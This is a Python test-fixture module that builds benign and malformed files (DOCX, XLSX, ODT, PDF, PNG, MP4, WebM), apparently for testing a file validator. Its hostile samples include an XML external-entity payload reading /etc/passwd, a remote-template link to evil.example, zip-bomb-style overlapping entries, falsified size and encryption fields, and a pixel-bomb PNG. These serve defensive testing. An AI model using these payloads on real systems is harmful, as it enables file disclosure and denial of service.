"""Files good and bad, made here."""

import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="text/xml"/></Types>'
ODT_KIND = "application/vnd.oasis.opendocument.text"
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'


def archive(members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return stream.getvalue()


def docx(main="<w/>", more=None):
    """A DOCX, with `more` parts (name → content)."""
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": main, **(more or {})})


def xlsx(**more):
    return archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<w/>", **more})


def odt(content="<x/>", kind=ODT_KIND, **more):
    return archive({"mimetype": kind, "content.xml": content, **more})


def relationship(kind, target, mode="External"):
    name = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    one = f'<Relationship Id="r1" Type="{name}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'


def linked(kind, target="https://evil.example/t.dotm", mode="External"):
    return docx(more={"word/_rels/document.xml.rels": relationship(kind, target, mode)})


def overlapping():
    """Two members of the directory that are the same bytes of the archive, as a bomb has thousands."""
    content = bytearray(archive({"[Content_Types].xml": TYPES, "word/document.xml": "<w/>", "aa": b"0" * 100, "ab": b"0" * 100}))
    first = content.index(b"PK\x01\x02")
    offsets = []
    place = first
    while content[place : place + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack("<HHH", content[place + 28 : place + 34])
        offsets.append(place + 42)
        place += 46 + name + extra + comment
    content[offsets[3] : offsets[3] + 4] = content[offsets[2] : offsets[2] + 4]
    return bytes(content)


def encrypted():
    content = bytearray(docx())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := content.find(signature, place + 1)) >= 0:
            content[place + flags] |= 1
    return bytes(content)


def lying(told=10):
    """The directory tells a smaller size than there is."""
    content = bytearray(docx(more={"word/media/a.dat": b"0" * 5000}))
    place = content.rindex(b"word/media/a.dat") - 46
    content[place + 24 : place + 28] = struct.pack("<I", told)
    return bytes(content)


def pdf_with(content):
    return PDF.replace(b"<</Type /Catalog>>", content)


def pdf_with_packed(objects):
    packed = zlib.compress(objects)
    head = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(packed)
    return PDF.replace(b"<</Type /Catalog>>", head + packed + b"\nendstream")


def image(kind="PNG", size=(8, 8)):
    stream = io.BytesIO()
    Image.new("RGB", size).save(stream, kind)
    return stream.getvalue()


def box(kind, content=b""):
    return struct.pack(">I4s", 8 + len(content), kind) + content


MP4 = box(b"ftyp", b"isom\0\0\2\0") + box(b"moov", b"\0" * 40) + box(b"mdat", b"\0" * 40)
WEBM = b"\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08\x42\x82\x84webmB\x87\x81\x04" + b"\0" * 50


def many_pixels():
    """A PNG that tells of 30,000 × 30,000 pixels in a few bytes."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
